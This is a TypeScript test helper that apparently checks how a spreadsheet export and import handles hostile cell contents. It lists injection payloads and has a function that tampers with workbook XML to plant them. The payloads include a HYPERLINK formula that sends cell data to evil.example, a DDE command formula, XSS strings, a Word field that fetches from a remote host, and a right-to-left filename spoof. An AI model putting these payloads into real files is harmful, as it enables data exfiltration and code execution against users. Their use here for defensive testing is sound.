import { strFromU8, strToU8, unzipSync, zipSync } from "fflate"

/** What somebody may write to have a spreadsheet, a browser or Word do something; each as Excel shows it, so what a file carries as `_x0000_` is the character. */
export const attacks = {
  link: '=HYPERLINK("http://evil.example/?q="&A1,"xem")',
  command: "=cmd|' /C calc'!A0",
  plus: "+1+1",
  minus: "-2+3",
  at: "@SUM(1+1)",
  braces: "{=1+1}",
  tab: "\t=1+1",
  newLine: "\r\n=1+1",
  blank: "\u00A0\u200B=1+1",
  wide: "＝1+1",
  script: "<script>alert(1)</script>",
  image: `'"><img src=x onerror=alert(1)>`,
  address: "javascript:alert(1)",
  site: "http://evil.example/x",
  share: "\\\\evil.example\\x",
  field: "]]></w:t><w:instrText>INCLUDETEXT http://evil.example</w:instrText>",
  ampersand: `&lt;b&gt; &#60; & " ' &amp;`,
  turned: "\u202Etxt.exe\u2066",
  control: "a\u0000b\u0001c\u001B[2J\u007Fd",
  escape: "_x0041__x003D_1+1",
  surrogate: "a\uD800b",
  last: "a\uFFFEb\uFFFF",
  slot: "{A12.01.1} {period} ${7*7} {{7*7}}",
  proto: "__proto__",
  quoted: `'=1+1`,
  separators: `a,b;c"d"\ne`,
  long: `=${"đ".repeat(9_000)}`,
} as const

/** A text as it stands in a workbook's file, where what XML cannot hold is `_xHHHH_`, and what looks so is escaped. */
function inXml(text: string): string {
  const escaped = text.replace(/_(?=x[0-9A-Fa-f]{4}_)/g, "_x005F_")
  const held = escaped.replace(
    /[^\P{Cc}\t\n]|[\uFFFE\uFFFF]|\p{Surrogate}/gu,
    (sign) => `_x${sign.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}_`,
  )
  return held.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`)
}

/** A cell of a workbook, and the text or figure that is put there. */
export type Put = readonly [sheet: string, address: string, content: string | number]

/**
 * A workbook of ours with texts put into its cells, and sheets renamed, as no form would let one do it: by hand, in its XML. Throws where
 * there is no such cell.
 */
export function tamperedBook(bytes: Uint8Array, puts: readonly Put[], names: ReadonlyMap<string, string>): Uint8Array {
  const parts = unzipSync(bytes)
  const book = strFromU8(parts["xl/workbook.xml"]!)
  const sheets = [...book.matchAll(/<sheet sheetId="(\d+)" name="([^"]*)"/g)].map(([, id, name]) => [name, id] as const)
  const idOf = new Map(sheets)
  for (const [sheet, address, content] of puts) {
    const part = `xl/worksheets/sheet${idOf.get(sheet)}.xml`
    const cell = new RegExp(`<c r="${address}"( s="\\d+")?[^>]*?(?:/>|>.*?</c>)`)
    const xml = strFromU8(parts[part]!)
    if (!cell.test(xml)) throw new Error(`no cell ${sheet}!${address}`)
    const put = (_: string, look = "") =>
      typeof content === "number"
        ? `<c r="${address}"${look}><v>${content}</v></c>`
        : `<c r="${address}"${look} t="inlineStr"><is><t xml:space="preserve">${inXml(content)}</t></is></c>`
    parts[part] = strToU8(xml.replace(cell, put))
  }
  const renamed = [...names].reduce(
    (xml, [name, to]) => xml.replace(`name="${name}"`, () => `name="${inXml(to)}"`),
    book,
  )
  return zipSync({ ...parts, "xl/workbook.xml": strToU8(renamed) })
}
